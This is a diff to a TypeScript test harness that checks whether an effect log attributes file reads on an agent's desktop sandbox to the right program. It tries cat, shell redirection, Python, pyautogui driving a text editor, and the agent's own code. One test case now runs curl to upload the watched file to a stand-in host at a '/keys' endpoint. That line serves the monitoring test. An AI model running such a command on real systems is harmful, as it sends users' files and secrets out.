@@ -39,6 +39,8 @@ interface Way {
   name: string;
   by: readonly string[] | null;
   read(desktop: Desktop): Promise<unknown>;
+  /** The agent's code, where that reads it. */
+  code?: string;
   /** Applications take long: so many times at most. */
   most?: number;
 }
@@ -47,10 +49,10 @@ const shell =
   (command: string) =>
   (desktop: Desktop): Promise<unknown> =>
     desktop.exec(command, { shell: true });
-const python =
-  (code: string) =>
-  (desktop: Desktop): Promise<unknown> =>
-    desktop.exec(['python3', '-c', code]);
+/** A Python of its own, as from a terminal. */
+const python = (code: string): Way['read'] => shell(`python3 - <<'EOF'\n${code}\nEOF`);
+/** What a way gives that did not come about, as where an application was too slow. */
+const notDone = Symbol('not done');
 const pythons = ['python3', 'python3.11'];
 const shells = ['sh', 'bash', 'dash'];
 
@@ -78,10 +80,15 @@ const ways: readonly Way[] = [
   { name: 'symbolic link', by: ['cat'], read: shell('cat /tmp/link') },
   { name: 'redirection', by: ['cat', ...shells], read: shell(`cat < ${file}`) },
   { name: 'read of the shell itself', by: shells, read: shell(`read line < ${file}; echo "$line"`) },
-  { name: 'curl, as an upload', by: ['curl'], read: shell(`curl -s -m 2 -F f=@${file} http://localhost:9/`) },
+  {
+    name: 'curl, as an upload',
+    by: ['curl'],
+    read: shell(`curl -s -m 2 -F f=@${file} http://forms.brightdesk.example/keys`),
+  },
   {
     name: 'the agent’s own code (pyautogui)',
-    by: pythons,
+    by: [...pythons, 'code'],
+    code: `print(open('${file}').read())`,
     read: (desktop) => desktop.execute(`print(open('${file}').read())`),
   },
   {
@@ -100,11 +107,13 @@ const ways: readonly Way[] = [
     most: 3,
     read: async (desktop) => {
       await desktop.launch(['mousepad']);
-      await delay(1_500);
+      await delay(3_000);
       await desktop.execute(
-        `import pyautogui, time\npyautogui.hotkey('ctrl', 'o')\ntime.sleep(1)\npyautogui.write('${file}')\npyautogui.press('enter')\ntime.sleep(1)`,
+        `import pyautogui, time\npyautogui.hotkey('ctrl', 'o')\ntime.sleep(1)\npyautogui.write('${file}')\npyautogui.press('enter')\ntime.sleep(1)\npyautogui.press('enter')\ntime.sleep(2)`,
       );
+      const isOpen = (await desktop.windows()).some(({ title }) => title.includes(basename(file)));
       await desktop.exec(['pkill', 'mousepad']);
+      return isOpen ? undefined : notDone;
     },
   },
   {
@@ -150,13 +159,23 @@ async function measureWay(desktop: Desktop, log: RunningEffectLog, way: Way, nex
   for (let at = 0; at < times; at++) {
     const step = nextStep();
     log.stepStarted(step);
-    await way.read(desktop);
+    if (way.code !== undefined) await log.recordCode(step, way.code);
+    if ((await way.read(desktop)) === notDone) {
+      row.times -= 1;
+      continue;
+    }
     const opened = (await log.collect(step)).filter(({ source, path }) => source === 'read' && path === file);
     if (opened.length > 0) row.seen += 1;
-    const programs = opened.map(({ detail }: Effect) => basename(detail.argv?.[0] ?? ''));
+    const programs = opened.map(({ detail }: Effect) =>
+      detail.by === 'code' ? 'code' : basename(detail.argv?.[0] ?? ''),
+    );
     if (programs.some((name) => way.by?.includes(name))) row.right += 1;
-    else if (programs.some((name) => name !== '')) row.wrong += 1;
-    else if (opened.length > 0) row.unnamed += 1;
+    else if (programs.some((name) => name !== '')) {
+      row.wrong += 1;
+      process.stdout.write(
+        `  wrong: ${opened.map(({ detail }) => `${detail.argv?.join(' ')} (${detail.by})`).join('; ')}\n`,
+      );
+    } else if (opened.length > 0) row.unnamed += 1;
   }
   return row;
 }
